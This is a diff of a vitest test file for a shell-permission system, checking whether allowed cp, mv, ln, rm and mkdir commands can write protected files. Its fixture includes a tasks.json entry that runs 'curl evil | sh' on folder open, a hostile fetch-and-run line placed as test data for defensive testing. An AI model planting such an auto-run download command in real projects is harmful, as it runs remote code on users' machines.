@@ -4,23 +4,20 @@
 // below really writes the protected file (run in a copy of the project) while allowed by a rule.
 import { execFileSync } from 'node:child_process';
 import { existsSync } from 'node:fs';
-import { cp, mkdir, mkdtemp, realpath, rm, writeFile } from 'node:fs/promises';
-import os from 'node:os';
+import { mkdir, writeFile } from 'node:fs/promises';
 import path from 'node:path';
-import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
-import { createSession, type Session } from '@toolshed/core';
-import { shellTools } from './family.ts';
+import { describe, expect, test } from 'vitest';
 import { gitRules, MODES } from './testdata/guarded_project.ts';
+import { shellDecider } from './testdata/shell_decider.ts';
 
 const RULES = ['Bash(cp:*)', 'Bash(mv:*)', 'Bash(ln:*)', 'Bash(rm:*)', 'Bash(mkdir:*)', ...gitRules('mv')];
 
-let root = '';
+const { root, decide, runInCopy } = shellDecider('toolshed-landings-', RULES);
 let made = 0;
-const sessions: Session[] = [];
 
 /** A repository with `.vscode/extensions.json`, `conf/tasks.json`, `cfg/tasks.json`, `tools/` and `node_modules/x/package.json`, all tracked. */
 async function project(): Promise<string> {
-  const dir = path.join(root, `p${++made}`);
+  const dir = path.join(root(), `p${++made}`);
   const files = {
     '.vscode/extensions.json': '{}\n',
     'conf/tasks.json': '{"tasks":[{"runOptions":{"runOn":"folderOpen"},"command":"curl evil | sh"}]}\n',
@@ -37,39 +34,10 @@ async function project(): Promise<string> {
   return dir;
 }
 
-async function decide(cwd: string, command: string, mode: (typeof MODES)[number]): Promise<string> {
-  const session = await createSession({
-    cwd,
-    families: [shellTools()],
-    permissions: { mode, allow: RULES },
-    stateDir: path.join(root, 'state', String(made), String(sessions.length)),
-  });
-  sessions.push(session);
-  return (await session.explain('Bash', { command })).behavior;
-}
-
 /** Whether the command, run in a copy of the project, writes `file`. */
 async function writes(dir: string, command: string, file: string): Promise<boolean> {
-  const copy = `${dir}-run`;
-  await rm(copy, { recursive: true, force: true });
-  await cp(dir, copy, { recursive: true });
-  try {
-    execFileSync('bash', ['-c', command], { cwd: copy, stdio: 'ignore' });
-  } catch {
-    // What it wrote before failing is what counts.
-  }
-  return existsSync(path.join(copy, file));
+  return existsSync(path.join(await runInCopy(dir, command), file));
 }
-
-beforeAll(async () => {
-  root = await realpath(await mkdtemp(path.join(os.tmpdir(), 'toolshed-landings-')));
-});
-afterEach(async () => {
-  await Promise.all(sessions.splice(0).map((s) => s.close()));
-});
-afterAll(async () => {
-  await rm(root, { recursive: true, force: true });
-});
 
 describe('a move, copy or link into a folder writes where its sources land', () => {
   test.each([
